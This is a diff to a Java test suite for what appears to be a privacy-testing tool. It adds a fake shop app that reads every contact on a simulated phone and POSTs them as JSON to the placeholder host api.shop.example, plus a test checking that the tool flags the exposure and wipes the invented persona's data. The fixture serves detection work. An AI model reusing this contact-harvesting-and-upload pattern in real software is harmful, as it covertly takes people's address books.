@@ -16,6 +16,7 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.concurrent.CopyOnWriteArrayList;
+import java.util.stream.Collectors;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -63,6 +64,8 @@ class ScriptedRunTest {
         private String page = "notice";
         /** How many bytes it sends when it is launched. */
         private int sends;
+        /** Whether it sends the address book when it is launched. */
+        private boolean readsContacts;
 
         @Override
         public String packageName() {
@@ -88,6 +91,15 @@ class ScriptedRunTest {
         @Override
         public void onLaunch(FakePhone on) {
             hold(on, SHOP, "log.tracker.example", "/init?did=" + Person.IMEI);
+            if (readsContacts) {
+                post(
+                        on,
+                        "{\"contacts\": ["
+                                + on.contents().rows("com.android.contacts/data").stream()
+                                        .map(row -> "\"" + row.get("data1") + "\"")
+                                        .collect(Collectors.joining(","))
+                                + "]}");
+            }
             for (int sent = 0; sent < sends; sent += PIECE) {
                 post(on, "x".repeat(PIECE));
             }
@@ -109,7 +121,12 @@ class ScriptedRunTest {
 
     private static void post(FakePhone on, String body) {
         try {
-            on.ask(SHOP, "POST", URI.create("https://api.shop.example/upload"), "", body);
+            on.ask(
+                    SHOP,
+                    "POST",
+                    URI.create("https://api.shop.example/upload"),
+                    "Content-Type: application/json\r\n",
+                    body);
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         }
@@ -265,6 +282,20 @@ class ScriptedRunTest {
                 .contains("From now on traffic is not recorded", "Free disk space and run it again")
                 .contains("carries no verdict");
         assertThat(phone.proxy()).isEmpty();
+    }
+
+    @Test
+    void contacts_of_an_invented_person_are_found_with_whoever_reads_them_and_leave_the_phone() {
+        desk.run("persona", "make", "lin");
+        shop.readsContacts = true;
+
+        Command.Result result = run(
+                "plan.yaml", "--device", phone.address(), "--variant", "accept", "--persona", "lin", "--lang", "en");
+
+        assertThat(result.out()).contains("Put on the device: 12 contact(s), 1 message(s), 1 file(s)");
+        assertThat(report(session(result)).exposuresOf("contacts")).isNotEmpty();
+        assertThat(phone.contents().rows("com.android.contacts/raw_contacts")).isEmpty();
+        assertThat(phone.contents().rows("sms")).isEmpty();
     }
 
     @Test
